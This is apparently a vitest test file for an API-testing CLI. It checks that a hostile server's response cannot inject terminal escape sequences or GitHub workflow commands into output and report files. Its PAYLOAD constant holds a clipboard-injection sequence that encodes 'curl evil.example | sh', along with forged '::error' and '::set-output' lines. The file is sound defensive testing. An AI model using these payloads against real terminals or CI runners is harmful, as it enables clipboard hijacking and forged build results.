// A target's bytes reach the terminal, the CI log and every report as evidence. None of them may steer what shows
// them: no escape sequence reaches a terminal (clearing the screen, setting the title, writing the clipboard,
// moving back over a line), and no line reads to a GitHub runner as a workflow command (`::error`, `::set-output`,
// `##[error]`), in the output or in a report file a CI step may print.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseJson } from '../../helpers/json.js';
import type { Report } from '../../cli/reports/report.js';
import { runCli, type CliRun } from '../support/cli.js';
import { expectKeyNowhere, HOSTILE_KEY, ruleOf } from '../support/hostile-run.js';
import { startHttpServer, type LoopbackServer } from '../support/hostile-servers.js';

/** What a hostile target answers every request with: no JSON, every trick on its first line and on lines of their own. */
const PAYLOAD = [
  `pwned\x1b[2J\x1b[H\x1b]0;owned title\x07\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07\rX\r::error title=forged::the suite is broken\u009b2J\u202Eevil`,
  '::set-output name=verdict::certified',
  '  ::add-mask::nothing',
  'text ##[error]the older form, anywhere in a line',
].join('\n');

/** What no output may hold raw: ESC, BEL, a carriage return, a C1 CSI, a bidirectional override. */
const STEERING = /[\x1b\x07\r\u009b\u202e]/;

let target: LoopbackServer;
let run: CliRun;

beforeAll(async () => {
  target = await startHttpServer((_request, response) => response.writeHead(200, { 'content-type': 'text/plain' }).end(PAYLOAD));
  run = await runCli(['--base-url', target.baseUrl, '--only', 'LIST-01,LIST-03', '--timeout', '2000'], { env: { PETSTORE_API_KEY: HOSTILE_KEY } });
}, 120_000);

afterAll(async () => {
  await target.close();
});

/** Every line as a terminal or a runner splits it: at a line feed, a carriage return, or both. */
function linesOf(text: string): string[] {
  return text.split(/\r\n|\r|\n/);
}

describe('a target whose body holds escape sequences and workflow commands', () => {
  it('is judged, its body the evidence, as bytes it sent', () => {
    expect(run.code, run.stderr).toBe(1);
    expect(ruleOf(run, 'LIST-01').status).toBe('failed');
    expect(run.stdout).toContain('FAIL LIST-01');
    // The value survives every escape: report.json holds the body as it came.
    const report = parseJson(readFileSync(join(run.reportDir, 'report.json'), 'utf8')) as unknown as Report;
    const shown = report.rules.find((rule) => rule.id === 'LIST-01')?.evidence[0]?.exchanges[0]?.exchange.response?.rawBody;
    expect(shown).toBe(PAYLOAD);
    expectKeyNowhere(run);
  });

  it('steers no terminal: the output holds no escape sequence, and shows where one was', () => {
    expect(run.stdout + run.stderr).not.toMatch(STEERING);
    expect(run.stdout).toContain('pwned␛[2J');
  });

  it('gives a CI runner no workflow command: no line of the output begins with ::, and none holds ##[', () => {
    for (const line of linesOf(run.stdout + run.stderr)) {
      expect(line).not.toMatch(/^\s*::/);
      expect(line).not.toContain('##[');
    }
  });

  it.each(['summary.md', 'junit.xml', 'report.json', 'exchanges.har', 'report.html', 'manifest.json'])('leaves %s as inert when a CI step prints it', (file) => {
    const text = readFileSync(join(run.reportDir, file), 'utf8');
    expect(text).not.toMatch(STEERING);
    for (const line of linesOf(text)) {
      expect(line).not.toMatch(/^\s*::/);
      expect(line).not.toContain('##[');
    }
  });

  it('every file the run wrote was looked at', () => {
    expect(readdirSync(run.reportDir).sort()).toEqual(['badge.svg', 'exchanges.har', 'junit.xml', 'manifest.json', 'report.html', 'report.json', 'summary.md']);
  });
});
